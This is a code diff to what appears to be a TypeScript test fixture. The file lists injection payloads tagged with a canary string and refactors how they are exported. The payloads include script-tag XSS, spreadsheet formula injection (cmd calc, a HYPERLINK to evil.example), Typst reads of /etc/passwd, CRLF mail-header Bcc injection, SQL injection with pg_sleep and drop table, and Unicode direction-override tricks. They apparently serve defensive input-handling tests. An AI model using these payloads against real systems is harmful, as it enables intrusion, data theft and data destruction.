@@ -17,7 +17,7 @@ export const markup: readonly string[] = [
   `<math><mtext></p><script>${canary}</script>`,
 ];
 
-export const cells: readonly string[] = [
+const cells: readonly string[] = [
   `=cmd|' /C calc'!A0 ${canary}`,
   `+HYPERLINK("http://evil.example?${canary}","a")`,
   `-2+3+cmd|' ${canary}'!A0`,
@@ -26,21 +26,21 @@ export const cells: readonly string[] = [
   `＝1+1 ${canary}`,
 ];
 
-export const typst: readonly string[] = [
+const typst: readonly string[] = [
   `#read("/etc/passwd") ${canary}`,
   `#import "@preview/x:0.1.0": * // ${canary}`,
   `#eval("1+1") $ sum_${canary} $`,
   `*_\`\`\`${canary} #include "../../secret"`,
 ];
 
-export const headers: readonly string[] = [
+const headers: readonly string[] = [
   `a\r\nBcc: kurban@ornek.example\r\nX-Canary: ${canary}`,
   `a\nSubject: ${canary}\n\n.\nQUIT`,
   `${canary}%0d%0aBcc:kurban@ornek.example`,
   `a\u2028Bcc: ${canary}`,
 ];
 
-export const statements: readonly string[] = [
+const statements: readonly string[] = [
   `' or '1'='1' -- ${canary}`,
   `${canary}'); select pg_sleep(5); --`,
   `\\'; drop table purchase_order; -- ${canary}`,
@@ -48,18 +48,24 @@ export const statements: readonly string[] = [
   `${canary}" union select value from secret --`,
 ];
 
-export const directions: readonly string[] = [
+const directions: readonly string[] = [
   `Ay\u202eşe ${canary}`,
   `\u2066${canary}\u2069\u200f`,
   `${canary}\u200b\u200d\ufeff`,
 ];
 
-export const typedCards: readonly string[] = [
+const typedCards: readonly string[] = [
   typedCard,
   typedCard.replace(/(.{4})(?=.)/g, '$1 '),
   `kartım ${typedCard.replace(/(.{4})(?=.)/g, '$1-')} ${canary}`,
 ];
 
-export const corpora = { markup, cells, typst, headers, statements, directions, typedCards } as const;
-
-export const allTexts: readonly string[] = Object.values(corpora).flat();
+export const allTexts: readonly string[] = [
+  ...markup,
+  ...cells,
+  ...typst,
+  ...headers,
+  ...statements,
+  ...directions,
+  ...typedCards,
+];
